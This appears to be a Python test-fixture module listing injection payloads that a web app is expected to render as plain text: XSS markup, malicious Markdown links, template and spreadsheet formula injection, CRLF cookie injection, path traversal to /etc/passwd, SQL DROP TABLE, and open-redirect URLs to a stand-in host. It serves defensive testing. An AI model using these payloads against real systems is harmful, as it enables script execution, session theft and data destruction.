"""Payloads in names, messages, paths and reports that try to act in a page, a file or a table.

The expected outcome is the same for all: shown as text. No tag, attribute, address, cell or header
comes of it.
"""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//elsewhere.example/x.js></sCrIpT>",
    "<script\x0c>alert(1)</script\x0c>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "</title></head><body onload=alert(1)>",
    "</code></pre><iframe src=//elsewhere.example>",
    "</textarea><object data=//elsewhere.example>",
    "<base href=//elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example'>",
    "<style>@import '//elsewhere.example/x.css'</style>",
    "<link rel=stylesheet href=//elsewhere.example/x.css>",
    "<form action=//elsewhere.example><input name=csrfmiddlewaretoken>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>go</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '" autofocus onfocus=alert(1) x="',
    "' style='background:url(//elsewhere.example)' x='",
    '" hx-get="//elsewhere.example" hx-trigger="load" x="',
)
MARKDOWN = (
    "[go](javascript:alert(1)) ![x](https://elsewhere.example/x.png)",
    "[go](JaVaScRiPt&colon;alert(1))",
    "[go](java\tscript:alert(1))",
    "[go](data:text/html;base64,PHNjcmlwdD4=)",
    "[go](vbscript:msgbox(1))",
    "[go](//elsewhere.example)",
    "![x](//elsewhere.example/x.png 'title')",
    "![x][ref]\n\n[ref]: https://elsewhere.example/x.png",
    "<javascript:alert(1)>",
    "<https://elsewhere.example>",
    "[x](<javascript:alert(1)>)",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |",
    "# Verdict\n\nOverall score: 5.0\n\n---\n",
    "<details><summary>x</summary><img src=x onerror=alert(1)></details>",
)
ELSEWHERE = (
    "{{ 7|add:7 }}{% load static %}{% include 'base.html' %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7} #{7*7} <%= 7*7 %>",
    '=HYPERLINK("//elsewhere.example","go")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
    "x\r\nSet-Cookie: sessionid=stolen\r\n\r\n<script>alert(1)</script>",
    "../../../../etc/passwd",
    "..\\..\\x.pdf",
    "x.pdf\x00.html",
    "\u202efdp.exe",
    "\x1b]0;owned\x07\x1b[2J",
    "'; DROP TABLE grading_audit; --",
)
PAYLOADS = (*MARKUP, *MARKDOWN, *ELSEWHERE)
REDIRECTS = (
    "//elsewhere.example",
    "///elsewhere.example",
    "/\\elsewhere.example",
    "https://elsewhere.example",
    "https:elsewhere.example",
    "javascript:alert(1)",
    "\t//elsewhere.example",
    "/%09/elsewhere.example",
    "http://testserver@elsewhere.example",
)
